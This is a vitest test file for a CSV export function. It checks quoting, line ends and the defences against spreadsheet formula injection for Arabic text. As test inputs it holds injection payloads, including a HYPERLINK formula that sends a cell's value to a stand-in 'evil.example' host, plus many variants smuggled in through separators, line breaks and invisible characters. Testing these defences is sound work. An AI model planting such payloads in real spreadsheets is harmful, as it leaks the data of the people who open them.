import { describe, expect, it } from 'vitest';
import { CSV_BOM, toCsv, type CsvCell } from './csv.ts';

const cell = (value: CsvCell) => toCsv([[value]]).slice(0, -2);

describe('a file', () => {
  it('has a line for each row, with the line ends of RFC 4180', () => {
    expect(toCsv([['الاسم', 'العدد'], ['سلمى', 3], []])).toBe('الاسم,العدد\r\nسلمى,3\r\n\r\n');
    expect(toCsv([])).toBe('');
  });

  it('begins with a UTF-8 byte order mark for Excel', () => {
    expect([...Buffer.from(CSV_BOM + toCsv([['ا']]))].slice(0, 3)).toEqual([0xef, 0xbb, 0xbf]);
  });
});

describe('a cell', () => {
  it.each<[CsvCell, string]>([
    ['نص', 'نص'],
    ['', ''],
    [null, ''],
    [undefined, ''],
    [0, '0'],
    [-5.5, '-5.5'],
    [true, 'true'],
    [new Date('2026-11-23T12:30:00Z'), '2026-11-23T12:30:00.000Z'],
    ['أ,ب', '"أ,ب"'],
    ['أ،ب', 'أ،ب'],
    ['قال "نعم"', '"قال ""نعم"""'],
    ['"', '""""'],
    ['سطر\nآخر', '"سطر\nآخر"'],
    ['سطر\r\nآخر', '"سطر\r\nآخر"'],
    ['أ;ب', '"أ;ب"'],
    [' أ', '" أ"'],
    ['أ ', '"أ "'],
    ['5 = 3 + 2', '5 = 3 + 2'],
  ])('of %j is %s', (value, written) => {
    expect(cell(value)).toBe(written);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+218 91', "'+218 91"],
    ['-5', "'-5"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', `"'\t'=1"`],
    ['\r=1', `"'\r'=1"`],
    ['\nأ', `"'\nأ"`],
    ['\tأ', `"'\tأ"`],
    ['  =1', "'  =1"],
    ['\u200F=1', "'\u200F=1"],
    ['\uFEFF=1', "'\uFEFF=1"],
    ['＝1', "'＝1"],
    ['=HYPERLINK("https://evil.example","اضغط")', `"'=HYPERLINK(""https://evil.example"",""اضغط"")"`],
  ])('that begins like a formula, %j, becomes text', (value, written) => {
    expect(cell(value)).toBe(written);
  });
});

describe('no cell becomes a formula, whatever the separator', () => {
  const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
  const texts = SIGNS.flatMap((sign) => [
    `رأيي;${sign}HYPERLINK("http://evil.example/?"&A1,"x");تمام`,
    `سطر\n${sign}1+1`,
    `سطر\r\n${sign}1+1`,
    `سطر\r${sign}1`,
    `أ\t${sign}1`,
    `أ;"${sign}1"`,
    `أ; \u200F${sign}1`,
    `أ;;\t\n${sign}1`,
    `;${sign}1`,
    `أ\u2028${sign}1`,
    `أ,${sign}1`,
    `"${sign}1"`,
    `أ";${sign}1`,
  ]);

  /**
   * Parses a file as a spreadsheet with this separator does: quotation marks count only at the start of a
   * cell.
   */
  function read(file: string, separator: string): string[] {
    const cells: string[] = [];
    for (let at = 0; at < file.length;) {
      let text = '';
      if (file[at] === '"') {
        for (at++; at < file.length; at++) {
          if (file[at] !== '"') text += file[at];
          else if (file[at + 1] === '"') text += file[at++];
          else {
            at++;
            break;
          }
        }
      }
      while (at < file.length && file[at] !== separator && !/[\r\n\v\f\u0085\u2028\u2029]/.test(file[at]!))
        text += file[at++];
      cells.push(text);
      at++;
    }
    return cells;
  }

  it.each([',', ';', '\t'])('with %j', (separator) => {
    for (const text of texts) {
      const calculating = read(
        toCsv([
          ['اسم', text, 'آخر'],
          [text, 1],
        ]),
        separator,
      ).filter((each) => /^[\s\p{Cf}]*[=+\-@＝＋－＠]/u.test(each));
      expect({ text, calculating }).toEqual({ text, calculating: [] });
    }
  });

  it('and other text stays as written', () => {
    expect(cell('أ; ب - ج')).toBe('"أ; ب - ج"');
    expect(cell('قال: ١+١=٢')).toBe('قال: ١+١=٢');
  });
});
